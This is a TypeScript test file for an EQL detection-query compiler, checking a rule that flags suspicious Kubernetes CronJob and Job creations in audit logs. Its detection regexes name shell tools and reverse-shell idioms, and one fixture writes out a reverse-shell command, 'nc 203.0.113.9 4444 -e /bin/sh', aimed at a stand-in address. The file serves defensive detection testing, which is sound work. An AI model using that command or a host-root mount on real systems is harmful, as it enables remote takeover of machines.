import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { compileEql, type EqlDialect, type EqlDocument } from '../../src/eql/index.js';

// The exact text of ../shared/reference/elastic-query.eql (kept here so the test is hermetic).
const REFERENCE = `any where event.dataset == "kubernetes.audit"
and kubernetes.audit.objectRef.resource in~ ("cronjobs", "jobs")
and kubernetes.audit.verb in~ ("create", "update", "patch")
and (
message regex~ "(?i)(alpine|busybox|ubuntu|debian|kali|python|perl|ruby|php|ncat|netcat|nmap|masscan|curl|wget)"
or message regex~ "(?i)(bash -i|/dev/tcp|mkfifo|socat|base64 -d|chmod \\\\+x)"
or message like~ "*hostPath*"
or message regex~ "privileged.*true"
or message regex~ "hostNetwork.*true"
or message regex~ "/var/run/docker\\\\.sock|/proc|/sys"
)
`;

/** An Elastic-view document: the audit event under kubernetes.audit, its JSON text as message. */
function elasticView(audit: Record<string, unknown>): EqlDocument {
  return {
    '@timestamp': '2026-03-01T10:00:00.000Z',
    event: {
      dataset: 'kubernetes.audit',
      action: audit.verb,
      outcome: 'success',
      category: ['configuration'],
    },
    kubernetes: { audit },
    user: { name: 'system:serviceaccount:default:builder' },
    source: { ip: '10.0.0.7' },
    user_agent: { original: 'kubectl/v1.30.0' },
    message: JSON.stringify(audit),
  };
}

function cronJob(verb: string, containerSpec: Record<string, unknown>, resource = 'cronjobs') {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: 'f00d',
    stage: 'ResponseComplete',
    verb,
    objectRef: {
      resource,
      namespace: 'default',
      name: 'backup',
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    requestObject: {
      kind: 'CronJob',
      spec: {
        schedule: '*/5 * * * *',
        jobTemplate: { spec: { template: { spec: { containers: [containerSpec] } } } },
      },
    },
  };
}

const reverseShell = cronJob('create', {
  name: 'job',
  image: 'alpine:latest',
  command: ['/bin/sh', '-c', 'nc 203.0.113.9 4444 -e /bin/sh'],
});
const hostPath = cronJob('create', {
  name: 'job',
  image: 'registry.internal/tools:1.2',
  volumeMounts: [{ name: 'host', mountPath: '/host' }],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
});
const privilegedFalse = cronJob('create', {
  name: 'job',
  image: 'registry.internal/tools:1.2',
  securityContext: { privileged: false, readOnlyRootFilesystem: true },
});

function run(dialect: EqlDialect, audit: Record<string, unknown>) {
  return compileEql(REFERENCE, { dialect }).evaluator().push(elasticView(audit), 0, audit);
}

describe('the reference query', () => {
  it('is the text cronwarden ships (queries/reference.eql) and, where present, the shared file', () => {
    const shipped = readFileSync(new URL('../../queries/reference.eql', import.meta.url), 'utf8');
    expect(shipped).toBe(REFERENCE);
    const shared = new URL('../../../shared/reference/elastic-query.eql', import.meta.url);
    // CI and the developers' machines have shared/ beside the checkout; a bare clone may not.
    if (existsSync(shared)) expect(readFileSync(shared, 'utf8')).toBe(REFERENCE);
  });

  it('matches an alpine reverse-shell CronJob in the search dialect, with evidence', () => {
    const [m] = run('search', reverseShell);
    expect(m).toBeDefined();
    const regexEvidence = m!.evidence.find((e) => e.field === 'message')!;
    expect(regexEvidence.condition).toMatch(/^regex~ "\(\?i\)\(alpine/);
    expect(regexEvidence.value).toContain('alpine');
    expect(regexEvidence.value.length).toBeLessThanOrEqual(256);
  });

  it('never matches that CronJob in the elastic dialect: Lucene regexes must match the whole JSON text', () => {
    expect(run('elastic', reverseShell)).toEqual([]);
  });

  it('matches hostPath in both dialects, in elastic only through like~', () => {
    for (const dialect of ['search', 'elastic'] as const) {
      const [m] = run(dialect, hostPath);
      expect(m, dialect).toBeDefined();
      const messageEvidence = m!.evidence.filter((e) => e.field === 'message');
      if (dialect === 'elastic')
        expect(messageEvidence.map((e) => e.condition)).toEqual(['like~ "*hostPath*"']);
      expect(messageEvidence[0]!.value).toContain('hostPath');
    }
  });

  it('does not match a get or a pods create', () => {
    const get = { ...reverseShell, verb: 'get' };
    const pods = cronJob('create', { name: 'job', image: 'alpine:latest' }, 'pods');
    for (const dialect of ['search', 'elastic'] as const) {
      expect(run(dialect, get)).toEqual([]);
      expect(run(dialect, pods)).toEqual([]);
    }
  });

  it('has the known false positive: "privileged":false then a later true matches privileged.*true (search)', () => {
    const [m] = run('search', privilegedFalse);
    expect(m?.evidence.find((e) => e.field === 'message')?.condition).toBe(
      'regex~ "privileged.*true"',
    );
    expect(run('elastic', privilegedFalse)).toEqual([]);
  });

  it('warns, in the elastic dialect, at the position of each regex that can never match', () => {
    const warnings = compileEql(REFERENCE, { dialect: 'elastic' }).warnings;
    const never = warnings.filter((w) => w.code === 'EQL_REGEX_NEVER_MATCHES');
    expect(never.map((w) => [w.line, w.column])).toEqual([
      [5, 17],
      [6, 20],
      [8, 20],
      [9, 20],
      [10, 20],
    ]);
    expect(compileEql(REFERENCE, { dialect: 'search' }).warnings).toEqual([]);
  });
});

describe('regex comparisons', () => {
  const doc = { name: 'Kube-Proxy', message: '{"a":"x"}', list: ['zzz', 'kube-dns'] };
  it.each([
    ['any where name regex "Kube-.*"', 'elastic', true],
    ['any where name regex "kube-.*"', 'elastic', false],
    ['any where name regex~ "kube-.*"', 'elastic', true],
    ['any where name regex "Kube"', 'elastic', false],
    ['any where name regex "Kube"', 'search', true],
    ['any where name regex ("nope", "Kube-Pro.y")', 'elastic', true],
    ['any where list regex "kube-[a-z]+"', 'elastic', true],
    ['any where missing regex ".*"', 'elastic', false],
    ['any where not missing regex ".*"', 'elastic', true],
  ] as const)('%s (%s)', (query, dialect, expected) => {
    expect(compileEql(query, { dialect }).evaluator().push(doc, 0, 1).length > 0).toBe(expected);
  });
});
